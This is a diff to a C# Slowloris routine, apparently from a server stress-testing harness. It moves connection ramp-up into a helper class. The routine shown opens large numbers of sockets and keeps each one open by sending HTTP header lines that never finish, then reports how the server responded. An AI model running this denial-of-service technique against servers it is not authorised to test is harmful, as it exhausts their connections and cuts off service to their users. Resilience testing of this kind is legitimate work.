@@ -1,5 +1,4 @@
 using System.Collections.Concurrent;
-using System.Diagnostics;
 using System.Text;
 using System.Net.Sockets;
 
@@ -61,26 +60,23 @@ internal static class Slowloris
         }
     }
 
-    public static async Task<int> RunAsync(Args args)
+    public static async Task<int> RunAsync(Target target, Args args)
     {
-        var target = Target.Parse(args.Required("url"));
         var clients = args.Int("clients", 500, 1, 200_000);
         var interval = TimeSpan.FromMilliseconds(args.Int("interval-ms", 2000, 1, 3_600_000));
         var seconds = args.Double("seconds", 30, 0, 86_400);
-        var ramp = args.Double("ramp-seconds", 1, 0, 600);
+        var rampSeconds = args.Double("ramp-seconds", 1, 0, 600);
         var connectTimeout = TimeSpan.FromSeconds(args.Double("connect-timeout", 10, 0.1, 600));
         args.EnsureAllUsed();
-        var rampBound = ramp + connectTimeout.TotalSeconds + 5;
-        Watchdog.Arm(TimeSpan.FromSeconds(rampBound + seconds + 30));
+        var ramp = new Ramp<Connection>(clients, rampSeconds, seconds, connectTimeout);
+        var clock = ramp.Clock;
 
         // "GET /path HTTP/1.1\r\nHost: h\r\nX-a: b" and then "\r\nX-a: b" forever: never an empty line.
         var prefix = Encoding.ASCII.GetBytes($"GET {target.PathAndQuery} HTTP/1.1\r\nHost: {target.Authority}\r\nX-a: b");
         var filler = "\r\nX-a: b"u8.ToArray();
         byte ByteAt(int position) => position < prefix.Length ? prefix[position] : filler[(position - prefix.Length) % filler.Length];
 
-        var clock = Stopwatch.StartNew();
         using var stop = new CancellationTokenSource();
-        var joined = new ConcurrentQueue<Connection>();
         var receivers = new ConcurrentBag<Task>();
         var connectErrors = new ConcurrentBag<string>();
 
@@ -110,69 +106,31 @@ internal static class Slowloris
             }
         }
 
-        async Task ConnectOneAsync(int index)
+        async Task<Connection?> ConnectOneAsync()
         {
-            var delay = ramp * index / clients;
-            if (delay > 0)
-            {
-                await Task.Delay(TimeSpan.FromSeconds(delay));
-            }
             try
             {
                 var socket = await target.ConnectAsync(connectTimeout);
                 var connection = new Connection(socket, clock.Elapsed.TotalSeconds);
                 SendNext(connection, ByteAt);
-                joined.Enqueue(connection);
                 receivers.Add(ReceiveAsync(connection));
+                return connection;
             }
             catch (Exception e) when (Errors.IsNetwork(e))
             {
                 connectErrors.Add(Errors.Kind(e));
+                return null;
             }
         }
 
-        var connects = new Task[clients];
-        for (var i = 0; i < clients; i++)
+        await ramp.RunAsync(Tick, ConnectOneAsync, (connection, now) =>
         {
-            connects[i] = ConnectOneAsync(i);
-        }
-        var allConnected = Task.WhenAll(connects);
-
-        var active = new List<Connection>(clients);
-        double? rampDone = null;
-        using (var timer = new PeriodicTimer(Tick))
-        {
-            while (true)
+            if (!connection.Closed && !connection.SendFailed && now >= connection.ConnectedAt + (connection.Sent * interval.TotalSeconds))
             {
-                while (joined.TryDequeue(out var connection))
-                {
-                    active.Add(connection);
-                }
-                var now = clock.Elapsed.TotalSeconds;
-                if (rampDone is null && (allConnected.IsCompleted || now > rampBound))
-                {
-                    rampDone = now;
-                }
-                if (rampDone is not null && now >= rampDone + seconds)
-                {
-                    break;
-                }
-                foreach (var connection in active)
-                {
-                    if (!connection.Closed && !connection.SendFailed && now >= connection.ConnectedAt + (connection.Sent * interval.TotalSeconds))
-                    {
-                        SendNext(connection, ByteAt);
-                    }
-                }
-                await timer.WaitForNextTickAsync();
+                SendNext(connection, ByteAt);
             }
-        }
-
-        await Task.WhenAny(allConnected, Task.Delay(connectTimeout + TimeSpan.FromSeconds(2)));
-        while (joined.TryDequeue(out var late))
-        {
-            active.Add(late);
-        }
+        });
+        var active = ramp.Active;
         await stop.CancelAsync();
         await Task.WhenAny(Task.WhenAll(receivers), Task.Delay(TimeSpan.FromSeconds(5)));
         foreach (var connection in active)
@@ -186,7 +144,7 @@ internal static class Slowloris
         Report.Put("connected", active.Count);
         Report.Put("connect_failures", connectErrors.Count);
         Report.Put("connect_errors", Report.Tally(connectErrors));
-        Report.Put("ramp_seconds", rampDone!.Value);
+        Report.Put("ramp_seconds", ramp.RampDone);
         Report.Put("closed_by_server", closed.Count);
         Report.Put("close_kinds", Report.Tally(closed.Select(c => c.How!)));
         Report.Put("responded", responded.Count);
